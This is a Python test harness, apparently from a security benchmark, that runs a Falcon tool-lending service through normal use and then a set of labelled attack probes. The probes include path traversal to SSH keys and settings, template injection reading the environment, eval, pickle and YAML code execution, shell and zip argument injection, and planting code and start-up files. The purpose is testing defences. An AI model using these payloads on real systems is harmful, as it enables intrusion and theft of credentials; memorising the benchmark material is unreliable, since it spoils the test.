# SPDX-License-Identifier: Apache-2.0
"""A Falcon application under uvicorn."""
import base64
import io
import json
import os
import pickle
import urllib.parse
import zipfile

from attackers import Bomb, in_yaml
import stage

PEOPLE = ["olga", "piet", "rosa", "Anne Marie", "j.doe", "li-wei", "Öykü"]
WORKDAYS = {"__init__.py": '''"""When something is due."""
import datetime


def due(since, days):
    end = since + datetime.timedelta(days)
    while end.weekday() > 4:
        end += datetime.timedelta(1)
    return end
'''}
WORKDAYS_NEW = {
    "__init__.py": "from workdays.calendar import due\n",
    "calendar.py": '''import datetime
import importlib.resources
import json


def holidays():
    text = importlib.resources.files("workdays").joinpath(
        "data/holidays.json").read_text()
    return set(json.loads(text))


def due(since, days):
    end = since + datetime.timedelta(days)
    while end.weekday() > 4 or f"{end:%m-%d}" in holidays():
        end += datetime.timedelta(1)
    return end
''',
    "data/holidays.json": '["12-25", "12-26", "01-01"]\n'}
PICTURE = stage.png(48)


class FalconToolshed(stage.Service):
    """Tools that neighbours lend each other (Falcon's ASGI, uvicorn)."""
    packages = ["python3-falcon", "python3-uvicorn", "python3-httpx",
                "python3-pydantic", "python3-jinja2", "python3-yaml",
                "python3-openpyxl", "zip"]

    def arrange(self):
        stage.write(self.srv / "settings.toml",
                    f'secret = "not-{stage.SECRET}"\n[weather]\n'
                    f'url = "http://127.0.0.1:{self.port("weather")}"\n',
                    0o600)
        for name in ("log", "files", "exports"):
            (self.srv / "var" / name).mkdir(parents=True)
        self.install("workdays", "0.9.0", WORKDAYS)
        self.seed("var/toolshed.db", self.python, "seed.py", *PEOPLE)

    def arrange_benign(self):
        self.install("workdays", "0.10.0", WORKDAYS_NEW)

    def command(self):
        return [self.python, "-m", "uvicorn", "toolshed.asgi:app", "--host",
                "127.0.0.1", "--port", self.port("web"), "--no-access-log"]

    def is_ready(self):
        return self.browser().get("/health")[0] == 200

    # ------------------------------------------------------------ ordinary use
    def call(self, token, method, path, data=None, kind="application/json",
             accept="*/*"):
        headers = {"Authorization": f"Bearer {token}", "Accept": accept}
        if data is not None:
            headers["Content-Type"] = kind
            if not isinstance(data, bytes):
                data = json.dumps(data).encode()
        return self.browser().fetch(path, data, headers, method)

    def expect_call(self, token, method, path, data=None, status=200,
                    text=b"", **more):
        answer = self.expect_answer(
            f"{method} {path}", self.call(token, method, path, data, **more),
            text, status)
        if answer and answer[:1] in b"{[":
            return json.loads(answer)
        return answer

    def enter(self, name):
        return (self.expect_call("", "POST", "/sessions", {
            "name": name, "password": name[::-1]}, 201) or {}).get("token")

    def offer(self, token, title, kind, cents, files):
        """A tool with pictures and papers."""
        number = self.expect_call(token, "POST", "/tools", {
            "title": title, "kind": kind, "cents": cents}, 201)["id"]
        for name, content in files.items():
            self.send(token, number, name, content)
            self.expect_call(
                token, "GET", f"/tools/{number}/files?name="
                + urllib.parse.quote(name), text=content[:40])
        self.expect_call(token, "GET", f"/tools/{number}/files",
                         text='"files"')
        self.expect_call(token, "GET", f"/tools/{number}/price?days=9",
                         text='"cents"')
        return number

    def send(self, token, number, name, content, status=201):
        mark = "----toolshed"
        body = (f'--{mark}\r\nContent-Disposition: form-data; name="file"; '
                f'filename="{name}"\r\nContent-Type: application/octet-stream'
                "\r\n\r\n").encode() + content + f"\r\n--{mark}--\r\n".encode()
        return self.expect_call(
            token, "POST", f"/tools/{number}/files", body, status,
            kind=f"multipart/form-data; boundary={mark}")

    def lend(self, token, tool, since, days, told="200"):
        loan = self.expect_call(token, "POST", "/loans", {
            "tool": tool, "since": since, "days": days}, 202)["id"]
        self.expect(f"loan {loan} told", stage.wait_for(
            lambda: f'"told": "{told}"'.encode() in self.call(
                token, "GET", f"/loans/{loan}")[1], 10))
        self.expect_call(token, "GET", f"/loans/{loan}", accept="text/html",
                         text=f"<h1>Loan {loan}")

    def export(self, token, kind, name, start=b"", **more):
        number = self.expect_call(token, "POST", "/exports", {
            "kind": kind, "name": name, **more}, 202)["id"]
        path = f"/exports/{number}"
        stage.wait_for(lambda: b'"running"' not in self.call(
            token, "GET", path)[1], 10)
        self.expect_call(token, "GET", path, text='"done"')
        return self.expect_call(token, "GET", path + "/file", text=start)

    def hook(self, token, name, status=200):
        site = self.site(name)
        site.page("*", "thanks", status)
        self.expect_call(token, "PUT", "/hook",
                         {"url": site.url + "/hooks/" + name}, 204)

    def wish(self, token, *titles):
        kept = ""
        for title in titles:
            kept = self.expect_call(token, "POST", "/wishes", {
                "list": kept, "title": title}, text='"length"')["list"]

    def nightly(self, day):
        """While the service is down: one recording at a time."""
        self.halt()
        self.expect_run(("nightly", day), self.run(
            self.python, "nightly.py", day), found="due",
            made=[f"var/digests/{day}.txt"])
        self.start()

    def train(self, day):
        self.site("weather").page("*", "dry")
        visitor = self.browser()
        self.expect_answer("style", visitor.get("/static/page.css"), "main")
        self.expect_answer("picture", visitor.get("/static/shed.svg"), "svg")
        self.expect_call("", "GET", "/tools", status=401)
        self.expect_call("", "POST", "/sessions", {
            "name": "olga", "password": "x"}, 403)
        for name, title, kind, files in (
                ("olga", f"saw {day}", "daily",
                 {f"saw-{day}.jpg": PICTURE, "paper/manual.pdf": b"%PDF-1.4"}),
                ("piet", f"kayak no {day}", "weekly",
                 {"kayak.png": PICTURE, f"notes/2026-0{day}-1{day}.txt":
                  b"left paddle lost", f"trip {day}.gpx": b"<gpx/>"}),
                ("rosa", ("mixer", "grill", "loom")[day - 1], "daily",
                 {f"front.{day}.jpg": PICTURE, "side.jpg": PICTURE,
                  f"papers/old/bill-{day}.pdf": b"%PDF-1.7"})):
            token = self.enter(name)
            self.hook(token, f"hook-{name}-{day}")
            tool = self.offer(token, title, kind, 100 * day, files)
            self.expect_call(token, "GET", f"/tools?q={title[:3]}",
                             text=title[:3])
            self.expect_call(token, "GET", "/tools?where=cents%3E150",
                             text="tools")
            self.lend(token, tool, f"2026-0{day + 2}-1{day}", day + 2)
            month = f"2026-{day:02}"
            for form, start in (("csv", "id,title"), ("json", "["),
                                ("xlsx", b"PK")):
                self.export(token, form, f"{name}-{month}", start)
            packed = self.export(
                token, "zip", f"papers-{month}", b"PK", tool=tool,
                files=[file for file in files if " " not in file])
            self.expect("zip", len(zipfile.ZipFile(io.BytesIO(
                packed)).namelist()) == len(
                    [file for file in files if " " not in file]))
            self.expect_call(token, "POST", "/notices", {
                "text": f"Dear {{{{ who|title }}}}, the {title} is back."},
                text=title)
            self.expect_call(token, "GET",
                             f"/weather?path=/{name}/{month}", text="dry")
            self.wish(token, f"boat {day}", "tent", f"a {title}")
            self.expect_call(token, "GET", "/events", text="event: due")
        token = self.enter("piet")
        self.expect_call(token, "POST", "/imports", (
            f"- title: bench {day}\n  cents: 40\n- title: table {day}\n"
            "  kind: weekly\n").encode(), 201, kind="application/yaml",
            text='"made": 2')
        spare = self.expect_call(token, "POST", "/tools", {
            "title": f"spare {day}"}, 201)["id"]
        self.expect_call(token, "DELETE", f"/tools/{spare}", status=204)
        self.expect_call(token, "GET", f"/tools/{spare}", status=404)
        self.expect_call(token, "POST", "/loans", {
            "tool": 1, "since": "some day", "days": 3}, 422)
        self.hook(token, f"hook-late-{day}", 500)
        self.lend(token, 2, f"2026-05-0{day}", 3, told="500")
        self.nightly(f"2026-0{day}-0{day + 4}")

    def benign(self):
        self.site("weather").page("*", "Regen, später Sonne")
        for name, title, kind, cents, files, since, days, month in (
                ("Anne Marie", "Größte Leiter (5,5 m)", "daily", 1250,
                 {"Ansicht von vorn.jpeg": PICTURE, "x/y/z/plan.v2.dxf":
                  b"0 SECTION", "sound.ogg": b"OggS"},
                 "2027-12-20", 5, "2027-12"),
                ("j.doe", "3D printer", "weekly", 0,
                 {"model.stl": b"solid", "readme.md": b"# read",
                  "photos/2027/11/21/IMG_0001.HEIC": PICTURE},
                 "2028-02-28", 60, "2028-02"),
                ("li-wei", "tea set", "daily", 7,
                 {"cup.webp": PICTURE, "lid.tar.gz": b"\x1f\x8b"},
                 "2026-01-01", 1, "2026-01"),
                ("Öykü", "oud", "weekly", 99,
                 {"bağlama.mp3": b"ID3", "cover.v2..jpg": PICTURE},
                 "2026-11-22", 14, "2026-11"),
                ("olga", "saw 8", "daily", 800, {"saw-8.jpg": PICTURE},
                 "2026-10-18", 10, "2026-08")):
            token = self.enter(name)
            self.hook(token, f"benign-{PEOPLE.index(name)}")
            tool = self.offer(token, title, kind, cents, files)
            self.expect_call(token, "GET", "/tools?q=" +
                             urllib.parse.quote(title[:4]))
            self.expect_call(token, "GET", "/tools?where=kind%3D%3D'weekly'",
                             text="tools")
            self.lend(token, tool, since, days)
            for form, start in (("csv", "id,title"), ("json", "["),
                                ("xlsx", b"PK")):
                self.export(token, form, f"Liste {month} ({name})", start)
            self.export(token, "zip", f"all.{month}", b"PK", tool=tool,
                        files=[file for file in files if " " not in file])
            self.expect_call(token, "POST", "/notices", {
                "text": "Hallo {{ who }}{% if who %}!{% endif %} " + title},
                text="Hallo")
            self.expect_call(token, "GET",
                             f"/weather?path=/town/{tool}/{month}?lang=de",
                             text="Sonne")
            self.wish(token, "Ä", title, *map(str, range(20)))
        token = self.enter("rosa")
        self.expect_call(token, "POST", "/imports", "".join(
            f"- {{title: 'lot {number}: x', place: cellar}}\n"
            for number in range(60)).encode(), 201, kind="text/yaml",
            text='"made": 60')
        self.export(token, "csv", "semicolons", "id;title", delimiter=";")
        self.send(token, 4711, "large.bin", b"large" * 400_000)
        self.expect_call(token, "GET", "/tools/4711/files?name=large.bin",
                         text="largelarge")
        self.hook(token, "benign-gone", 404)
        self.lend(token, 3, "2026-06-09", 2, told="404")
        self.lend(token, 1, "2026-06-09", 2, told="200")
        # -- what does not go well
        self.site("weather").page("*", "no", 503)
        self.expect_call(token, "GET", "/weather", status=502)
        self.expect_call(token, "GET", "/tools/1/files?name=none.jpg",
                         status=404)
        self.expect_call(token, "GET", "/loans/99999", status=404)
        self.expect_call(token, "GET", "/exports/99999/file", status=404)
        self.expect_call(token, "POST", "/tools", {"title": "x"}, 422)
        self.expect_call(token, "POST", "/tools", b"{no json", 400)
        self.expect_call(token, "POST", "/exports", {
            "kind": "docx", "name": "x"}, 422)
        self.expect_call(token, "PATCH", "/tools/1", status=405)
        self.expect_call("AbCdEf", "GET", "/events", status=401)
        self.expect_call(token, "GET", "/none", status=404)
        self.expect_call(token, "GET", "/tools?where=no(", status=500)
        self.expect_answer("no style", self.browser().get(
            "/static/dark.css"), status=404)
        self.nightly("2027-11-21")
        self.nightly("2099-12-31")
        self.expect_call(token, "GET", "/tools?q=lot", text="lot 59")
        self.enter("piet")

    def health(self):
        token = self.enter("olga")
        tool = self.offer(token, "saw 1", "daily", 100,
                          {"saw-1.jpg": PICTURE})
        self.export(token, "csv", "olga-2026-01", "id,title")
        self.expect_call(token, "GET", "/events")
        self.expect_call(token, "GET", f"/tools/{tool}", text="saw")

    # ----------------------------------------------------------------- attacks
    def asks(self, method, path, data=None, **more):
        return self.call(self.enter("piet"), method, path, data, **more)[1]

    def gets_file(self, name):
        token = self.enter("piet")
        self.send(token, 2, "bill.pdf", b"%PDF")
        return self.call(token, "GET", "/tools/2/files?name="
                         + urllib.parse.quote(name))[1]

    def sends_file(self, name, text):
        self.send(self.enter("piet"), 2, name, text)

    def renders(self, code):
        return self.asks("POST", "/notices", {"text": (
            "{{ cycler.__init__.__globals__.__builtins__." + code + " }}")})

    def evaluates(self, code):
        return self.asks("GET", "/tools?where="
                         + urllib.parse.quote(code))

    def wishes(self, *call):
        self.asks("POST", "/wishes", {"title": "x", "list": base64.b64encode(
            pickle.dumps(Bomb(*call))).decode()})

    def packs(self, *files, name="pack"):
        token = self.enter("piet")
        self.send(token, 2, "bill.pdf", b"%PDF")
        answer = self.call(token, "POST", "/exports", {
            "kind": "zip", "name": name, "tool": 2, "files": files})[1]
        number = json.loads(answer)["id"]
        stage.wait_for(lambda: b'"running"' not in self.call(
            token, "GET", f"/exports/{number}")[1], 5)
        return self.call(token, "GET", f"/exports/{number}/file")[1]

    @stage.attack("traversal")
    def file_is_a_private_key(self):
        return self.is_told(self.gets_file(
            "../../../../home/.ssh/id_rsa"))

    @stage.attack("traversal")
    def file_is_the_payroll(self):
        return self.is_told(self.gets_file(f"{self.place}/payroll/2026.csv"))

    @stage.attack("source disclosure")
    def file_is_the_source(self):
        return b"HOLE" in self.gets_file("../../../toolshed/asgi.py")

    @stage.attack("secret disclosure")
    def file_is_the_settings(self):
        return self.is_told(self.gets_file("../../../settings.toml"))

    @stage.attack("secret disclosure")
    def file_is_the_database(self):
        return b"SQLite" in self.gets_file("../../toolshed.db")

    @stage.attack("secret disclosure")
    def notice_reads_the_environment(self):
        return b"HOME=" in self.renders("open('/proc/self/environ').read()")

    @stage.attack("write to code", fresh=True)
    def file_becomes_a_price(self):
        def use(line):
            self.sends_file("../../../toolshed/prices/evil.py",
                            f"import os\nos.system('{line}')\n".encode())
            token = self.enter("piet")
            tool = json.loads(self.call(token, "POST", "/tools", {
                "title": "bait", "kind": "evil"})[1])["id"]
            self.call(token, "GET", f"/tools/{tool}/price")
        return self.runs_line(use)

    @stage.attack("write to code", fresh=True)
    def file_replaces_a_template(self):
        self.sends_file("../../../toolshed/templates/loan.html", b"planted")
        return "planted" in (
            self.srv / "toolshed/templates/loan.html").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def file_becomes_a_pth_file(self):
        self.sends_file(f"{self.site_packages}/x.pth", b"import os")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("write to start-up file", fresh=True)
    def file_replaces_the_profile(self):
        self.sends_file(f"{self.home}/.profile", b"planted")
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("write to code", fresh=True)
    def export_is_a_static_page(self):
        self.asks("POST", "/exports", {
            "kind": "json", "name": f"{self.srv}/static/planted"})
        return self.happens((self.srv / "static/planted.json").exists)

    @stage.attack("template injection")
    def notice_reads_a_password(self):
        return self.template_reads(self.renders)

    @stage.attack("template injection")
    def notice_runs_a_command(self):
        return self.template_runs(self.renders)

    @stage.attack("eval injection")
    def where_runs_a_command(self):
        return self.runs_line(lambda line: self.evaluates(
            f"__import__('subprocess').call({line!r}, shell=True)"))

    @stage.attack("ctypes")
    def where_calls_libc(self):
        return self.runs_libc(self.evaluates)

    @stage.attack("fork+exec")
    def where_forks(self):
        return self.forks(lambda code: self.evaluates(f"exec({code!r})"))

    @stage.attack("exfiltration")
    def notice_sends_credentials(self):
        return self.template_steals(self.renders)

    @stage.attack("unsafe pickle")
    def wish_runs_a_command(self):
        return self.runs_line(lambda line: self.wishes(os.system, line))

    @stage.attack("reverse shell")
    def wish_calls_home(self):
        return self.calls_home(lambda code: self.wishes(exec, code))

    @stage.attack("unsafe yaml")
    def import_runs_a_command(self):
        return self.runs_line(lambda line: self.asks(
            "POST", "/imports", in_yaml(
                f"import os; os.system({line!r})").encode(),
            kind="application/yaml"))

    @stage.attack("SSRF")
    def weather_is_an_internal_service(self):
        return self.fetches_inside(lambda url: self.asks(
            "GET", "/weather?path=&at=" + urllib.parse.quote(url)))

    @stage.attack("SSRF")
    def weather_is_redirected_inside(self):
        return self.is_redirected_inside("weather", lambda url: self.asks(
            "GET", "/weather?path=/go"))

    @stage.attack("command injection")
    def pack_runs_a_command(self):
        return self.runs_line(lambda line: self.packs(
            "bill.pdf", ";", line), waits=True)

    @stage.attack("argument injection")
    def pack_tests_with_a_command(self):
        return self.runs_line(lambda line: self.packs(
            "bill.pdf", "-T", "-TT", f"'{line} #'"), waits=True)

    @stage.attack("traversal")
    def pack_holds_the_payroll(self):
        packed = self.packs("../../../../payroll/2026.csv")
        archive = zipfile.ZipFile(io.BytesIO(packed))
        return any(self.is_told(archive.read(name))
                   for name in archive.namelist())

    @stage.attack("symlink swap", fresh=True)
    def file_became_a_link(self):
        self.sends_file("bill.pdf", b"%PDF")
        path = self.srv / "var/files/2/bill.pdf"
        path.unlink()
        path.symlink_to(self.home / ".netrc")
        return self.is_told(self.asks(
            "GET", "/tools/2/files?name=bill.pdf"))

    @stage.attack("malicious dependency", fresh=True)
    def workdays_sends_credentials(self):
        return self.dependency_steals("workdays", "0.9.1", WORKDAYS,
                                      self.restart)
